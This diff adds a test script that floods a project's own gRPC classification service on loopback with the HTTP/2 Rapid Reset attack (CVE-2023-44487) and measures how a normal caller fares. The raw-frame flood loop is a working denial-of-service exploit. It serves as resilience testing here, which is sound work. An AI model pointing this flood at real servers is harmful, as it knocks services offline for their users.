@@ -1,0 +1,110 @@
+"""Begins calls on many connections and resets them at once (CVE-2023-44487), beside a calm caller and a look at health.
+
+python -m tests.reset_flood [SECONDS]
+
+Starts a fleet of tiny models on loopback, floods its classification service, and prints what the calm ones were
+answered: calls that carry a header alone, then whole messages.
+"""
+
+import asyncio
+import sys
+import tempfile
+import threading
+import time
+from collections import Counter
+from pathlib import Path
+
+import grpc
+from convoy.client import Convoy
+from convoy.fleet import Fleet, free_ports
+from convoy.testing import pictures
+from convoy.testing.tiny_models import write_repository
+from convoy.v1 import classification_pb2, common_pb2
+from grpc_health.v1 import health_pb2
+
+from tests.raw_http2 import frame, headers
+
+CONNECTIONS = 28
+CLASSIFY, HEALTH = "/convoy.v1.ClassificationService/Classify", "/grpc.health.v1.Health/Check"
+REQUEST = classification_pb2.ClassifyRequest(
+    images=[common_pb2.Image(encoded=pictures.encode(pictures.plain((220, 20, 20))))]
+).SerializeToString()
+_CANCEL = (8).to_bytes(4)
+
+
+async def reset(port: int, until: float, is_whole: bool) -> int:
+    """Begin and reset calls on one connection until then, and on a new one where it is closed. Returns how many."""
+    begin = headers(CLASSIFY if is_whole else HEALTH)
+    body = frame(0, 1, 0, b"\0" + len(REQUEST).to_bytes(4) + REQUEST) if is_whole else b""
+    begun = 0
+    while time.monotonic() < until:
+        try:
+            reader, writer = await asyncio.open_connection("127.0.0.1", port)
+        except OSError:
+            await asyncio.sleep(0.05)
+            continue
+        closed = asyncio.ensure_future(reader.read())
+        try:
+            writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0) + frame(4, 1, 0))
+            for stream in range(1, 2**20, 2):
+                place = stream.to_bytes(4)
+                whole = body[:5] + place + body[9:] if is_whole else b""
+                writer.write(frame(1, 4, stream, begin) + whole + frame(3, 0, stream, _CANCEL))
+                begun += 1
+                if stream % 100 == 99:
+                    await writer.drain()
+                    await asyncio.sleep(0)
+                    if closed.done() or time.monotonic() > until:
+                        break
+        except OSError:
+            continue
+        finally:
+            closed.cancel()
+            writer.close()
+    return begun
+
+
+def flood(port: int, seconds: float, is_whole: bool, begun: list[int]) -> None:
+    """Reset calls on CONNECTIONS connections for so long."""
+
+    async def all_at_once() -> None:
+        until = time.monotonic() + seconds
+        begun.extend(await asyncio.gather(*(reset(port, until, is_whole) for _ in range(CONNECTIONS))))
+
+    asyncio.run(all_at_once())
+
+
+def beside(address: str, seconds: float, is_whole: bool) -> tuple[int, Counter[str]]:
+    """Flood a service of classification: how many calls were reset, and what a calm caller was answered."""
+    said, begun = Counter[str](), list[int]()
+    attack = threading.Thread(target=flood, args=(int(address.rpartition(":")[2]), seconds, is_whole, begun))
+    content = health_pb2.HealthCheckRequest().SerializeToString()
+    with grpc.insecure_channel(address, [("grpc.enable_retries", 0)]) as channel:
+        attack.start()
+        while attack.is_alive():
+            for name, method, message in (("classify", CLASSIFY, REQUEST), ("health", HEALTH, content)):
+                try:
+                    channel.unary_unary(method)(message, timeout=5)
+                    said[f"{name} OK"] += 1
+                except grpc.RpcError as error:
+                    said[f"{name} {error.code().name}"] += 1
+            time.sleep(0.05)
+        attack.join()
+    return sum(begun), said
+
+
+def main(seconds: float) -> None:
+    """Flood, and tell."""
+    with tempfile.TemporaryDirectory() as folder:
+        models = write_repository(Path(folder) / "models")
+        with Fleet(Path(folder) / "data", models, free_ports()) as fleet:
+            address = fleet.addresses["classification"]
+            for is_whole in (False, True):
+                begun, said = beside(address, seconds, is_whole)
+                print(f"{'whole messages' if is_whole else 'headers alone'}: {begun} calls reset, {dict(said)}")
+                with Convoy(classification=address, timeout_s=60) as convoy:
+                    assert convoy.classify(pictures.encode(pictures.plain((220, 20, 20)))).best.label == "red"
+
+
+if __name__ == "__main__":
+    main(float(sys.argv[1]) if len(sys.argv) > 1 else 8.0)
